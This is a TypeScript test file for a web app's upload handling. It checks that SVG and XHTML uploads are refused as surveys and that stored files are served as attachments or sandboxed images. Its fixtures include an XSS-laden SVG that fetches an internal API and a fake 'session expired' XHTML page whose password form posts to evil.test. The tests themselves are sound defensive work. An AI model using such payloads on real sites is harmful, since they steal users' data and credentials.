/**
 * Uploads cannot become pages of our origin (issue 13 item 5): a survey is stored only when it
 * parses, so an SVG or an XHTML "session expired" page beginning with `<` is refused; a stored survey
 * downloads as an attachment; only a backdrop whose bytes are a verified image is shown inline, and
 * every upload is served under its own restrictive CSP.
 */
import { expect } from 'chai';
import { files as filesTable } from '../../drizzle/schema';
import { IMAGE_CSP, DOWNLOAD_CSP } from '../../server/routes/files';
import { PNG_BYTES, SURVEY_CSV } from './fixtures';
import { startOnDemoProject, type ApiAgent, type TestApp } from './test-app';

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/team/members\')"><script>alert(1)</script></svg>';
const XHTML =
  '<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Session expired</h1><form action="https://evil.test/"><input name="password" type="password"/></form></body></html>';
const GPX = '<?xml version="1.0"?><gpx version="1.1"><wpt lat="45.1" lon="-120.2"><ele>310</ele><name>Spring</name></wpt></gpx>';

describe('API: uploads are parsed before storing and served safely', () => {
  let t: TestApp;
  let designer: ApiAgent;
  let files: string;
  before(async () => ({ t, designer, files } = await startOnDemoProject()));
  after(async () => {
    await t.close();
  });

  it('refuses an SVG or an XHTML page uploaded as a survey (400), storing nothing', async () => {
    const before = (await t.db.select({ id: filesTable.id }).from(filesTable)).length;
    for (const [name, text] of [
      ['map.svg', SVG],
      ['pegs.gpx', XHTML],
    ]) {
      const res = await designer.upload(files, { bytes: Buffer.from(text), filename: name, contentType: 'image/svg+xml' }, { kind: 'survey' });
      expect(res.status, name).to.equal(400);
      expect(res.body.error.message).to.match(/not a GPX file|no wpt/);
    }
    expect((await t.db.select({ id: filesTable.id }).from(filesTable)).length).to.equal(before);
  });

  it('stores a survey that parses, and serves it as an attachment under a sandboxing CSP', async () => {
    for (const [name, text, mime] of [
      ['pegs.csv', SURVEY_CSV, 'text/csv'],
      ['walk.gpx', GPX, 'application/gpx+xml'],
    ]) {
      const up = await designer.upload(files, { bytes: Buffer.from(text), filename: name }, { kind: 'survey' }).expect(201);
      expect(up.body.mime).to.equal(mime);
      const got = await designer.get(`${files}/${up.body.id}`).expect(200);
      expect(got.headers['content-type'].split(';')[0]).to.equal(mime);
      expect(got.headers['content-disposition']).to.match(/^attachment; filename=/);
      expect(got.headers['content-security-policy']).to.equal(DOWNLOAD_CSP);
      expect(got.headers['x-content-type-options']).to.equal('nosniff');
    }
  });

  it('shows a verified image inline under an image-only CSP; a stored row whose bytes are not an image downloads', async () => {
    const up = await designer.upload(files, { bytes: PNG_BYTES, filename: 'plan.png' }, { kind: 'backdrop' }).expect(201);
    const got = await designer.get(`${files}/${up.body.id}`).expect(200);
    expect(got.headers['content-disposition']).to.match(/^inline; /);
    expect(got.headers['content-security-policy']).to.equal(IMAGE_CSP);
    expect(IMAGE_CSP).to.contain("default-src 'none'").and.to.contain('sandbox');
    // A row claiming image/png whose bytes are markup (e.g. written by an older version) is not shown inline.
    const [row] = await t.db
      .insert(filesTable)
      .values({
        projectId: t.seeded!.demoProjectId,
        kind: 'backdrop',
        filename: 'old.png',
        mime: 'image/png',
        size: SVG.length,
        bytes: Buffer.from(SVG),
      })
      .returning({ id: filesTable.id });
    const old = await designer.get(`${files}/${row.id}`).expect(200);
    expect(old.headers['content-type']).to.equal('application/octet-stream');
    expect(old.headers['content-disposition']).to.match(/^attachment; /);
    expect(old.headers['content-security-policy']).to.equal(DOWNLOAD_CSP);
  });
});
